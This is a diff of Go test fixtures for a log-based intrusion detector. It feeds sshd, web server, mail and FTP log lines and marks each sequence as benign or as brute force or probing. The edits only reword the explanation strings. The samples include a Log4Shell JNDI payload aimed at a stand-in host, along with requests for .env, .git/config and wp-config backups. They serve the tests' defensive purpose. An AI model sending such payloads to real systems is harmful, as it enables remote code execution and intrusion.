@@ -55,7 +55,7 @@ func keySequences() []sequence {
 		{topicKeys, "an rsync job whose key is not on the server", repeat(48, time.Hour, "sshd Received disconnect from {A} port 40022:11: disconnected by user [preauth]", "sshd Disconnected from authenticating user backup {A} port 40022 [preauth]"), "", why},
 		{topicKeys, "Jenkins (JSch) polls with a changed credential", repeat(20, time.Minute, "sshd Received disconnect from {A} port 40022:3: com.jcraft.jsch.JSchException: Auth fail [preauth]", "sshd Disconnected from authenticating user git {A} port 40022 [preauth]"), "", why},
 		{topicKeys, "an agent with eight keys, at eight logins", repeat(8, time.Minute, "sshd error: maximum authentication attempts exceeded for dan from {A} port 40022 ssh2 [preauth]", "sshd Disconnecting authenticating user dan {A} port 40022: Too many authentication failures [preauth]"), "", why},
-		{topicKeys, "agents that offer keys, LogLevel VERBOSE", repeat(200, 3*time.Second, "sshd Failed publickey for git from {A} port 40022 ssh2: ED25519 SHA256:xs2xWmE1vTmyz0hGDNsE4yPoQhOnmRJuLMw9XxHTDf0"), "", "a key that is offered is no attempt"},
+		{topicKeys, "agents that offer keys, LogLevel VERBOSE", repeat(200, 3*time.Second, "sshd Failed publickey for git from {A} port 40022 ssh2: ED25519 SHA256:xs2xWmE1vTmyz0hGDNsE4yPoQhOnmRJuLMw9XxHTDf0"), "", "a key that is offered is not an attempt"},
 		{topicKeys, "a job for an account that may not log in (AllowUsers)", repeat(40, time.Minute, "sshd User tunnel from {A} not allowed because not listed in AllowUsers", say(sshGone, "tunnel")), "", why},
 		{topicKeys, "Ansible for four accounts that are not there any more", repeat(24, 15*time.Minute, say(sshInvalid, "ops{i%4}"), say(sshGone, "ops{i%4}")), "", "it takes five accounts"},
 		{topicKeys, "clients after a new installation of the server", repeat(60, time.Minute, "sshd Received disconnect from {A} port 40022:9: Host key verification failed [preauth]"), "", why},
@@ -64,14 +64,14 @@ func keySequences() []sequence {
 		{topicKeys, "a host whose name does not fit its address", repeat(500, time.Second, `sshd Nasty PTR record "192.0.2.1" is set up for {A}, ignoring`), "", "that is its provider's doing"},
 		{topicKeys, "a client with old algorithms only", repeat(200, 20*time.Second, "sshd Unable to negotiate with {A} port 40022: no matching host key type found. Their offer: ssh-rsa [preauth]"), "", "a rate of 300 in 10 minutes"},
 		{topicKeys, "somebody who mistypes four times and gives up", repeat(4, 20*time.Second, say(sshFailed, "dan")), "", "five wrong passwords in 10 minutes are guessing"},
-		{topicKeys, "somebody who mistypes ten times and gives up", repeat(10, 20*time.Second, say(sshFailed, "dan")), "ssh-bruteforce", "nothing tells it from guessing, but that his network is in trusted"},
+		{topicKeys, "somebody who mistypes ten times and gives up", repeat(10, 20*time.Second, say(sshFailed, "dan")), "ssh-bruteforce", "nothing distinguishes it from guessing, unless the network is in trusted"},
 	}
 }
 
 func successSequences() []sequence {
 	office := say(sshFailed, "u{i}")
 	return []sequence{
-		{topicSuccess, "an office behind one address: six mistype once, each gets in 6 s later", repeat(6, 80*time.Second, office, "+6s "+say(sshAccepted, "password", "u{i}")), "", "a success takes back the failures of its account"},
+		{topicSuccess, "an office with one address: six mistype once, each gets in 6 s later", repeat(6, 80*time.Second, office, "+6s "+say(sshAccepted, "password", "u{i}")), "", "a success takes back the failures of its account"},
 		{topicSuccess, "the same every half hour, for a day", repeat(48, 30*time.Minute, office, "+6s "+say(sshAccepted, "password", "u{i}")), "", "a success takes back the failures of its account"},
 		{topicSuccess, "four mistyped passwords, and in", slices.Concat(repeat(4, 10*time.Second, say(sshFailed, "dan")), shifted(time.Minute, repeat(1, 0, say(sshAccepted, "password", "dan"))), shifted(2*time.Minute, repeat(4, 10*time.Second, say(sshFailed, "dan")))), "", "a success takes back up to five failures"},
 		{topicSuccess, "one who mistypes twice at each of ten logins a day", repeat(10, 40*time.Minute, say(sshFailed, "dan"), "+5s "+say(sshFailed, "dan"), "+12s "+say(sshAccepted, "password", "dan")), "", "a success takes back up to five failures"},
@@ -100,17 +100,17 @@ func outageSequences() []sequence {
 		{topicOutage, "RADIUS is away: mail programs of eight offices", imap, "", "held: five addresses that got in before fail, and more than get in"},
 		{topicOutage, "Dovecot's authentication is away, for Postfix", repeat(200, 2*time.Second, "postfix/smtpd warning: unknown[{A}]: SASL LOGIN authentication failed: Connection lost to authentication server"), "", unmatched},
 		{topicOutage, "SSSD is away on a server that four addresses use", away(4, say(sshFailed, "deploy")), "", own},
-		{topicOutage, "the same, with accounts that were not there before", away(4, say(sshFailed, "staging")), "ssh-bruteforce", "four addresses are too few to tell an outage from an attack"},
+		{topicOutage, "the same, with accounts that were not there before", away(4, say(sshFailed, "staging")), "ssh-bruteforce", "four addresses are too few to distinguish an outage from an attack"},
 	}
 }
 
 func staleSequences() []sequence {
-	const one = "one account is no guessing, below 100 tries in 5 minutes"
+	const one = "one account is not guessing, below 100 tries in 5 minutes"
 	then := func(before, after []said) []said { return slices.Concat(before, shifted(time.Hour, after)) }
 	return []sequence{
 		{topicStale, "a monitor over SSH, password changed", then(repeat(10, time.Minute, say(sshAccepted, "password", "monitor")), repeat(1000, time.Minute, say(sshFailed, "monitor"))), "", own},
 		{topicStale, "a backup over SSH, every quarter of an hour", then(repeat(1, 0, say(sshAccepted, "password", "backup")), repeat(96, 15*time.Minute, say(sshFailed, "backup"))), "", own},
-		{topicStale, "the same, which never got in", repeat(96, 15*time.Minute, say(sshFailed, "backup")), "ssh-slow-bruteforce", "nothing tells it from guessing"},
+		{topicStale, "the same, which never got in", repeat(96, 15*time.Minute, say(sshFailed, "backup")), "ssh-slow-bruteforce", "nothing distinguishes it from guessing"},
 		{topicStale, "fifteen mail programs of an office, all passwords changed", then(repeat(15, time.Minute, say(imapLogin, "u{i}@example.org")), repeat(300, 4*time.Second, say(imapFailed, "u{i%12}@example.org"))), "", own},
 		{topicStale, "four cameras that upload by FTP, passwords changed", then(repeat(4, time.Minute, "vsftpd [cam{i}] OK LOGIN: Client \"{A}\""), repeat(400, 30*time.Second, "vsftpd [cam{i%4}] FAIL LOGIN: Client \"{A}\"")), "", own},
 		{topicStale, "Prometheus: three exporters that log in to Proxmox, an old password", repeat(120, 5*time.Second, say(request, "-", "POST /api2/json/access/ticket", 401)), "", "a 401 answers a request, not an attempt"},
@@ -151,7 +151,7 @@ func webSequences() []sequence {
 		{topicWeb, "a feed's pictures, fetched by readers' servers", repeat(200, time.Second, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET /d{i}/.git/config HTTP/1.1\" 404 512 \"-\" \"Miniflux/2.2.2 (+https://miniflux.app)\""), "", "what fetches for others is weak"},
 		{topicWeb, "a search engine follows links to us", repeat(200, time.Minute, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET /wp-config.php.bak HTTP/1.1\" 404 512 \"-\" \"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\""), "", breadth},
 		{topicWeb, "an edge of a CDN, whose visitors are not in the log", merged(repeat(3, time.Second, say(request, "-", "GET /.env", 404)), repeat(100, time.Second, say(request, "-", "GET /p{i}", 200))), "", breadth},
-		{topicWeb, "an edge of Cloudflare with many attackers behind it", from("104.16.1.1", repeat(100, time.Second, say(request, "-", "GET /d{i}/.env", 404))), "", "its networks are known, and are never reported"},
+		{topicWeb, "an edge of Cloudflare, used by many attackers", from("104.16.1.1", repeat(100, time.Second, say(request, "-", "GET /d{i}/.env", 404))), "", "its networks are known, and are never reported"},
 		{topicWeb, "a webmail tab left open, Roundcube moved", repeat(600, time.Minute, say(request, "-", "GET /roundcube/?_task=mail&_action=refresh", 404)), "", breadth},
 		{topicWeb, "the same, closed for an upgrade", repeat(600, time.Minute, say(request, "-", "GET /roundcube/?_task=mail&_action=refresh", 403)), "", breadth},
 		{topicWeb, "ten editors log in to WordPress with a second factor", repeat(10, 40*time.Second, say(request, "-", "POST /wp-login.php", 200), "+8s "+say(request, "-", "POST /wp-login.php?action=validate_2fa", 302)), "", "50 forms in 10 minutes"},
@@ -247,6 +247,6 @@ func attackSequences() []sequence {
 		{topicAttack, "Log4Shell in the name of the browser", repeat(3, time.Second, "nginx {A} - - [22/Nov/2026:08:00:00 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"${jndi:ldap://192.0.2.99/a}\""), "web-tools", "no page can make a browser say that"},
 		{topicAttack, "an open relay is looked for", repeat(100, 30*time.Second, relayDenied), "mail-abuse", "100 in an hour"},
 		{topicAttack, "a scanner that speaks other protocols to port 25", repeat(20, 10*time.Second, "postfix/smtpd warning: non-SMTP command from unknown[{A}]: GET / HTTP/1.1"), "probes", "20 in 10 minutes; browsers refuse that port"},
-		{topicAttack, "the same to port 22", repeat(290, 2*time.Second, "sshd banner exchange: Connection from {A} port 40022: invalid format"), "", "nothing tells it from a page elsewhere that sends its readers to a port of sshd's"},
+		{topicAttack, "the same to port 22", repeat(290, 2*time.Second, "sshd banner exchange: Connection from {A} port 40022: invalid format"), "", "nothing distinguishes it from a page elsewhere that sends its readers to a port of sshd"},
 	}
 }
